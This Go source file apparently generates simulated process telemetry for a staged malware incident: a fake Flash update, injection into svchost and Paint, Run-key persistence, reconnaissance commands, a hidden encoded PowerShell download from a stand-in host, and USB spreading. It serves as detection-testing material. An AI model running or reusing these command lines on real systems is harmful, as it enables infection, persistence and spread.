package story

import (
	"encoding/base64"
	"time"
	"unicode/utf16"

	"github.com/eljefe/eljefe/internal/event"
)

// encoded returns a command as PowerShell's -EncodedCommand takes it.
func encoded(command string) string {
	var raw []byte
	for _, u := range utf16.Encode([]rune(command)) {
		raw = append(raw, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(raw)
}

// little makes a process that did next to nothing before it ended: it only
// unpacked itself into another.
func little(p *process) {
	p.stats = &event.Statistics{
		Handles: 11, Threads: 1, KernelTimeUS: 15_625, CPUCycles: 48_112_907, ReadOps: 2, WriteOps: 1, OtherOps: 61,
		ReadBytes: 191_488, WriteBytes: 191_488, OtherBytes: 2210, PageFaults: 612, CommitPeak: 1_003_520,
		PeakWorkingSet: 2_412_544, PeakVirtualSize: 18_350_080, PeakPagedPool: 31_208, PeakNonpaged: 2104,
	}
}

const home = `$H\AppData\Roaming\Identities\`

// inject starts the two programs that the bot puts its code into. No svchost is
// started by a program in a user's profile, nor is Paint without a picture.
func (b *boot) inject(bot *process, at time.Time) (svchost, paint *process) {
	svchost = b.start(bot, at, "svchost32", run{cmd: `C:\Windows\System32\svchost.exe`, dir: home})
	paint = b.start(bot, at.Add(time.Second), "mspaint32", run{cmd: `C:\Windows\System32\mspaint.exe`, dir: home})
	return svchost, paint
}

// shell lets a process run a program through the command interpreter.
func (b *boot) shell(by *process, at time.Time, line string, life time.Duration, program string) {
	sh := b.start(by, at, "cmd", run{cmd: `cmd.exe /c ` + line, dir: home, life: life})
	b.console(sh)
	if program == "" {
		return
	}
	b.start(sh, at.Add(70*time.Millisecond), program, run{cmd: line, dir: home, life: life - 200*time.Millisecond})
}

// infection is what happens to Ana in accounting. A mail says that her Flash
// Player is out of date; what she downloads copies itself into her profile,
// hides in two Windows programs, looks around, and waits for a USB stick.
func (b *boot) infection() {
	tab := `$0 --type=renderer --lang=es --renderer-client-id=41 /prefetch:1`
	browser := b.start(b.named["outlook"], today("09:38:12"), "msedge", run{cmd: `$0 --single-argument https://get.flashplayer-update.example/es/?m=7713`})
	for i := range 3 {
		b.start(browser, today("09:38:13").Add(time.Duration(i*i)*time.Second), "edgetab", run{cmd: tab, as: b.tabAccount("edgetab", &b.user), life: 11 * time.Minute})
	}

	dropper := b.start(browser, today("09:41:32"), "fakeflash", run{dir: `$H\Downloads\`, life: 4200 * time.Millisecond, more: little})
	bot := b.start(dropper, today("09:41:35"), "bot", run{dir: `$H\Downloads\`, life: 5100 * time.Millisecond, more: little})
	svchost, paint := b.inject(bot, today("09:41:37"))

	b.start(svchost, today("09:41:52"), "reg", run{cmd: `reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Kxjqde /t REG_SZ /d "` + home + `Kxjqde.exe" /f`, dir: home})
	b.shell(svchost, today("09:44:05"), `ipconfig /all`, 2*time.Second, "ipconfig")
	b.shell(svchost, today("09:44:19"), `net view`, 13*time.Second, "net")
	b.shell(svchost, today("09:44:48"), `whoami /all`, time.Second, "whoami")
	b.shell(svchost, today("09:45:10"), `systeminfo`, 6*time.Second, "systeminfo")
	b.start(svchost, today("09:52:40"), "powershell", run{dir: home, life: 31 * time.Second,
		cmd: `powershell.exe -NoP -NonI -W Hidden -Enc ` + encoded(`Invoke-WebRequest http://cdn.flashplayer-update.example/s -OutFile $env:TEMP\s.dat`)})

	// A stick for the accountants' invoices is put in.
	b.shell(paint, today("10:02:41"), `copy /y "`+home+`Kxjqde.exe" E:\RECYCLER\Kxjqde.exe & copy /y "$H\AppData\Local\Temp\l.tmp" E:\Invoices.lnk`, time.Second, "")
	b.shell(paint, today("10:02:43"), `attrib +s +h E:\Invoices`, time.Second, "attrib")
	b.shell(paint, today("10:02:44"), `attrib +s +h E:\RECYCLER`, time.Second, "attrib")
}

// spread is the same an hour later at the reception, where the stick is put in
// and somebody opens what looks like the folder of invoices.
func (b *boot) spread() {
	sh := b.start(b.named["explorer"], today("11:04:18"), "cmd", run{dir: `E:\`, life: time.Second,
		cmd: `"C:\Windows\System32\cmd.exe" /c start RECYCLER\Kxjqde.exe & start explorer.exe E:\Invoices & exit`})
	b.console(sh)
	stick := b.start(sh, sh.start.Time.Add(160*time.Millisecond), "botusb", run{cmd: `RECYCLER\Kxjqde.exe`, dir: `E:\`, life: 3900 * time.Millisecond, more: little})
	b.start(sh, sh.start.Time.Add(310*time.Millisecond), "explorer", run{cmd: `explorer.exe E:\Invoices`, dir: `E:\`, life: 2 * time.Second})
	bot := b.start(stick, today("11:04:21"), "bot2", run{dir: `E:\`, life: 5 * time.Second, more: little})
	svchost, _ := b.inject(bot, today("11:04:23"))
	b.start(svchost, today("11:04:39"), "reg", run{cmd: `reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Qbzwlt /t REG_SZ /d "` + home + `Qbzwlt.exe" /f`, dir: home})
	b.shell(svchost, today("11:06:50"), `whoami /all`, time.Second, "whoami")
	b.shell(svchost, today("11:07:02"), `net view`, 12*time.Second, "net")
	b.start(svchost, today("11:09:27"), "powershell", run{dir: home, life: 44 * time.Second,
		cmd: `powershell.exe -NoP -NonI -W Hidden -Enc ` + encoded(`Invoke-WebRequest http://cdn.flashplayer-update.example/s -OutFile $env:TEMP\s.dat`)})
}
